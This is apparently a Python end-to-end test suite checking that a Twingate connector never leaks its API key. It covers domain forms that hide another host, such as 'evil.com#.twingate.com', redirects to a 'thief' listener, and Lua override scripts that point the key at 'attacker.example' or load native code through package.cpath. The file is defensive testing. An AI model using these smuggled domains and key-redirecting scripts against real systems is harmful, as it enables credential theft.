"""End to end: the API key goes only where the user meant (issue 9 §2).
Domains are accepted in three forms only, redirects never carry the key to
another host, the key can come from a private file, and core dumps are off."""

import http.server
import os
import resource
import select
import shutil
import socket
import subprocess
import tempfile
import threading
import unittest

from harness import BINARY, MockServer, run

KEY = "tgk-e2e-SECRET-4f1c9a"


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Answers every POST with the server's `reply` (status, headers) and
    records the request headers it saw."""

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.seen.append(dict(self.headers))
        status, headers = self.server.reply
        body = getattr(self.server, "body", b"")
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class Listener:
    """A throwaway HTTP server on 127.0.0.1 in a thread."""

    def __init__(self, status=200, headers=None):
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
        self.httpd.seen = []
        self.httpd.reply = (status, headers or {})
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    @property
    def seen(self):
        return self.httpd.seen

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


class KeySafety(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix="bt-key-")
        self.out = os.path.join(self.dir, "sync.c1z")

    def tearDown(self):
        shutil.rmtree(self.dir, ignore_errors=True)

    def assert_fails_with(self, r, needle):
        """Non-zero exit, exactly one error line holding needle, no file,
        and the key nowhere in the output."""
        self.assertNotEqual(r.returncode, 0, r.stderr)
        errors = [line for line in r.stderr.splitlines() if line.startswith("error:")]
        self.assertEqual(len(errors), 1, r.stderr)
        self.assertIn(needle, errors[0])
        self.assertNotIn(KEY, r.stderr + r.stdout)
        self.assertFalse(os.path.exists(self.out), "no output file may be written")
        return errors[0]

    # ---- --domain

    def test_domain_forms_that_hide_another_host_are_refused(self):
        for domain in ["evil.com#.twingate.com", "evil.com/.twingate.com",
                       "evil.com?.twingate.com", "https://evil.com/path"]:
            with self.subTest(domain=domain):
                r = run(["--domain", domain, "-f", self.out], env={"BATON_API_KEY": KEY},
                        cwd=self.dir, timeout=60)
                line = self.assert_fails_with(r, "is not accepted")
                self.assertIn("acme.twingate.com or https://acme.twingate.com", line)
                self.assertIn("--api-url", line)

    # ---- redirects

    def redirect_run(self, target):
        """A sync against a front server that redirects every POST to target."""
        front = Listener(307, {"Location": target})
        try:
            r = run(["--api-url", "http://127.0.0.1:%d/api/graphql/" % front.port, "-f", self.out,
                     "--log-format", "console", "--log-level", "debug"],
                    env={"BATON_API_KEY": KEY}, cwd=self.dir, timeout=120)
        finally:
            front.close()
        self.assertEqual(len(front.seen), 1, "a refused redirect is not retried")
        self.assertEqual(front.seen[0].get("X-API-KEY"), KEY)
        return r

    def test_redirect_to_another_host_never_gets_the_key(self):
        with MockServer(api_key=KEY) as mock:
            # The mock would answer the sync in full: only the policy stops it.
            r = self.redirect_run("http://localhost:%d/api/graphql/" % mock.port)
            self.assertEqual(mock.stats()["requests"], 0)
        line = self.assert_fails_with(r, "redirect to localhost refused")
        self.assertIn("127.0.0.1", line)

    def test_redirect_to_another_port_never_gets_the_key(self):
        thief = Listener(200)
        try:
            r = self.redirect_run("http://127.0.0.1:%d/steal" % thief.port)
        finally:
            thief.close()
        self.assertEqual(thief.seen, [])
        self.assert_fails_with(r, "redirect to 127.0.0.1 refused")

    def test_redirect_from_loopback_to_a_remote_host_is_refused(self):
        r = self.redirect_run("https://tenant.twingate.com/api/graphql/")
        self.assert_fails_with(r, "leaves a loopback host")

    # ---- scripts cannot send the key elsewhere (issue 16 §2)

    def override(self, module, code):
        scripts = os.path.join(self.dir, "scripts")
        os.makedirs(os.path.join(scripts, "twingate"), exist_ok=True)
        with open(os.path.join(scripts, "twingate", module + ".lua"), "w") as f:
            f.write(code)
        return scripts

    def sync_with(self, mock, scripts, extra=()):
        return run(["--api-url", mock.url, "-f", self.out, "--log-format", "console",
                    "--scripts-dir", scripts] + list(extra),
                   env={"BATON_API_KEY": KEY}, cwd=self.dir, timeout=120)

    USERS_SYNC_PREFIX = (
        'local graphql = require "bt.graphql"\n'
        'local M = require "bundled:twingate.users"\n'
        'local sync = M.sync\n'
        'function M.sync(ctx)\n'
        '  %s\n'
        '  return sync(ctx)\n'
        'end\n'
        'return M\n')

    def test_a_type_module_cannot_configure_the_key_to_another_port(self):
        thief = Listener(200)
        targets = [("http://127.0.0.1:%d/" % thief.port, "X-Whatever"),
                   ("http://127.0.0.1:%d/" % thief.port, "X-API-KEY"),
                   ("https://attacker.example/", "X-API-KEY")]
        try:
            with MockServer(api_key=KEY) as mock:
                for url, header in targets:
                    with self.subTest(url=url, header=header):
                        scripts = self.override("users", self.USERS_SYNC_PREFIX % (
                            'graphql.configure{ url = "%s", auth_config = "api-key", '
                            'auth_header = "%s" }\n  graphql.query("{ a }")' % (url, header)))
                        r = self.sync_with(mock, scripts)
                        line = self.assert_fails_with(r, "credentials go only to")
                        self.assertIn("twingate/users.lua:5:", line)
                # the same header to the operator's own endpoint is fine
                scripts = self.override("users", self.USERS_SYNC_PREFIX % (
                    'graphql.configure{ url = "%s", auth_config = "api-key", '
                    'auth_header = "X-Whatever" }' % mock.url))
                r = self.sync_with(mock, scripts)
                self.assert_fails_with(r, "credentials go only as the connector's own header")
        finally:
            thief.close()
        self.assertEqual(thief.seen, [])

    def test_a_second_endpoint_gets_no_credentials(self):
        thief = Listener(200, {"Content-Type": "application/json"})
        thief.httpd.body = b'{"data":{"a":1}}'
        try:
            with MockServer(api_key=KEY) as mock:
                scripts = self.override("users", self.USERS_SYNC_PREFIX % (
                    'graphql.configure{ url = "http://127.0.0.1:%d/" }\n'
                    '  graphql.query("{ a }")\n'
                    '  require("twingate.client").configure()' % thief.port))
                r = self.sync_with(mock, scripts)
        finally:
            thief.close()
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(len(thief.seen), 1)
        self.assertNotIn(KEY, repr(thief.seen))

    def test_an_override_of_the_endpoint_file_changes_nothing(self):
        thief = Listener(200)
        try:
            scripts = self.override("endpoint", (
                'return { template = "http://127.0.0.1:%d/{name}", auth_header = "X-API-KEY", '
                'auth_config = "api-key", name_config = "domain" }\n' % thief.port))
            r = run(["--domain", "acme", "-f", self.out, "--scripts-dir", scripts],
                    env={"BATON_API_KEY": KEY}, cwd=self.dir, timeout=60)
        finally:
            thief.close()
        self.assertEqual(thief.seen, [])
        self.assert_fails_with(r, "credentials go only to the operator's endpoint "
                                  "https://acme.twingate.com/api/graphql/")

    def test_an_override_contract_cannot_make_the_key_readable(self):
        # init.lua from someone else flips api-key to non-secret, then a type
        # module reads it (to send it as a variable to a keyless endpoint).
        self.override("init", (
            'local c = require "bundled:twingate"\n'
            'for _, f in ipairs(c.config) do\n'
            '  if f.name == "api-key" then f.secret = false end\n'
            'end\n'
            'return c\n'))
        scripts = self.override("users", self.USERS_SYNC_PREFIX % (
            'local config = require "bt.config"\n'
            '  require("bt.log").info("got " .. tostring(config.get("api-key")))'))
        with MockServer(api_key=KEY) as mock:
            r = self.sync_with(mock, scripts)
        self.assert_fails_with(r, "'api-key' is a secret")

    def test_an_override_contract_cannot_alias_the_key_variable(self):
        # "api_key" reads BATON_API_KEY too: as a non-secret field it would
        # hand the key to any script.
        self.override("init", (
            'local c = require "bundled:twingate"\n'
            'table.insert(c.config, { name = "api_key", help = "x" })\n'
            'return c\n'))
        scripts = self.override("users", self.USERS_SYNC_PREFIX % (
            'require("bt.log").info("got " .. tostring(require("bt.config").get("api_key")))'))
        with MockServer(api_key=KEY) as mock:
            r = self.sync_with(mock, scripts)
            self.assertEqual(mock.stats()["requests"], 0)
        self.assert_fails_with(r, "config field 'api_key' clashes with 'api-key'")
        self.assertNotIn("got ", r.stderr)

    def test_package_cpath_cannot_point_at_a_script_chosen_module(self):
        cc = shutil.which("cc")
        if not cc:
            self.skipTest("no C compiler")
        libdir = os.path.join(self.dir, "lib")
        os.makedirs(libdir)
        marker = os.path.join(self.dir, "native-code-ran")
        src = os.path.join(libdir, "cjson.c")
        with open(src, "w") as f:
            f.write('#include <stdio.h>\n#include <lua5.4/lua.h>\n'
                    'int luaopen_cjson(lua_State *L) { FILE *f = fopen("%s", "w");'
                    ' if (f) fclose(f); lua_newtable(L); return 1; }\n' % marker)
        subprocess.run([cc, "-shared", "-fPIC", "-o", os.path.join(libdir, "cjson.so"), src],
                       check=True)
        scripts = self.override("users", (
            'local M = require "bundled:twingate.users"\n'
            'package.loaded.cjson = nil\n'
            'package.cpath = "%s/?.so"\n'
            'require "cjson"\n'
            'return M\n' % libdir))
        with MockServer(api_key=KEY) as mock:
            r = self.sync_with(mock, scripts)
            self.assertEqual(mock.stats()["requests"], 0)
        line = self.assert_fails_with(r, "package.cpath is read-only")
        self.assertIn("twingate/users.lua:3:", line)
        self.assertFalse(os.path.exists(marker), "the script's native module ran")

    def test_print_goes_to_the_log_redacted(self):
        scripts = self.override("users", self.USERS_SYNC_PREFIX % (
            'print("printed-by-script", "%s")' % KEY))
        with MockServer(api_key=KEY) as mock:
            r = self.sync_with(mock, scripts)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertNotIn("printed-by-script", r.stdout)
        self.assertIn("printed-by-script", r.stderr)
        self.assertNotIn(KEY, r.stdout + r.stderr)

    # ---- --api-key-file

    def key_file(self, mode, text=KEY + "\n"):
        path = os.path.join(self.dir, "api-key")
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, mode)
        return path

    def test_key_file_feeds_the_sync(self):
        path = self.key_file(0o600)
        with MockServer(api_key=KEY) as mock:
            for how in ("flag", "env"):
                with self.subTest(how=how):
                    extra = ["--api-key-file", path] if how == "flag" else []
                    env = {"BATON_API_KEY_FILE": path} if how == "env" else {}
                    r = run(["--api-url", mock.url, "-f", self.out, "--log-format", "console",
                             "--reads-per-minute", "0"] + extra, env=env, cwd=self.dir)
                    self.assertEqual(r.returncode, 0, r.stderr)
                    self.assertTrue(os.path.exists(self.out))
                    self.assertNotIn(KEY, r.stderr + r.stdout)
                    os.unlink(self.out)

    def test_key_file_others_may_read_is_refused_before_any_request(self):
        path = self.key_file(0o644)
        with MockServer(api_key=KEY) as mock:
            r = run(["--api-url", mock.url, "-f", self.out, "--api-key-file", path],
                    cwd=self.dir)
            self.assertEqual(mock.stats()["requests"], 0)
        line = self.assert_fails_with(r, "--api-key-file")
        self.assertIn("group or others may read or write it", line)

    def test_key_and_key_file_together_are_refused(self):
        path = self.key_file(0o600)
        r = run(["--api-url", "http://127.0.0.1:9/api/graphql/", "-f", self.out,
                 "--api-key-file", path], env={"BATON_API_KEY": "tgk-other"}, cwd=self.dir)
        self.assert_fails_with(r, "both --api-key (or BATON_API_KEY) and --api-key-file")

    # ---- core dumps

    def core_limit_while_syncing(self, extra_env):
        """(soft, hard) RLIMIT_CORE of a running sync, read from /proc once it
        is waiting on a server that never answers."""
        hang = socket.socket()
        hang.bind(("127.0.0.1", 0))
        hang.listen(1)
        env = {k: v for k, v in os.environ.items() if not k.startswith("BATON_")}
        env.update({"BATON_API_KEY": KEY}, **extra_env)
        hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
        proc = subprocess.Popen(
            [BINARY, "--api-url", "http://127.0.0.1:%d/api/graphql/" % hang.getsockname()[1],
             "-f", self.out, "--http-timeout", "60"],
            env=env, cwd=self.dir, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CORE, (hard, hard)))
        try:
            ready, _, _ = select.select([hang], [], [], 60)
            self.assertTrue(ready, "the sync never connected")
            conn, _ = hang.accept()  # held open, never answered
            with open("/proc/%d/limits" % proc.pid) as f:
                line = next(l for l in f if l.startswith("Max core file size"))
            conn.close()
        finally:
            proc.terminate()
            proc.wait(30)
            hang.close()
        return line.split()[4:6]

    def test_core_dumps_are_off_unless_asked_for(self):
        if resource.getrlimit(resource.RLIMIT_CORE)[1] == 0:
            self.skipTest("core dumps are already off for this test runner")
        self.assertEqual(self.core_limit_while_syncing({}), ["0", "0"])
        self.assertNotEqual(self.core_limit_while_syncing({"BATON_ALLOW_CORE_DUMPS": "1"}),
                            ["0", "0"])


if __name__ == "__main__":
    unittest.main()
